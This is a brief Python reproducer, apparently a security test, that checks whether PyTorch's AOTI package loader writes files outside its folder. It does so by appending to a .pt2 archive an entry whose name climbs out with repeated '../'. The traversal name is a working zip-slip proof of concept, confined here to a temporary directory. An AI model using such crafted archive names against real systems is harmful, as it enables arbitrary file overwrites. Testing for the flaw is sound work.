# SPDX-License-Identifier: Apache-2.0
"""Reproducer without the suite: loading a package writes a file wherever the name of one of its entries says.

usage: python package_writes_outside_its_folder.py PACKAGE.pt2      exit status 1 where the file is written, 0 where it is not
"""

import os
import shutil
import sys
import tempfile
import zipfile

with tempfile.TemporaryDirectory() as folder:
    os.mkdir(f"{folder}/tmp")
    os.environ["TMPDIR"] = f"{folder}/tmp"
    import torch

    shutil.copy(sys.argv[1], f"{folder}/hostile.pt2")
    victim = f"{folder}/written_by_a_package"
    with zipfile.ZipFile(f"{folder}/hostile.pt2", "a") as archive:
        library = next(name for name in archive.namelist() if name.endswith(".so"))
        archive.writestr(f"{os.path.dirname(library)}/" + "../" * 40 + victim[1:], "x")
    try:
        torch._C._aoti.AOTIModelPackageLoader(f"{folder}/hostile.pt2", "model", False, 1, -1)
        print("the package was loaded")
    except RuntimeError as error:
        print("refused:", str(error).splitlines()[0])
    written = os.path.exists(victim)
    print(f"torch {torch.__version__}", "has written" if written else "has not written", victim)
    sys.exit(1 if written else 0)
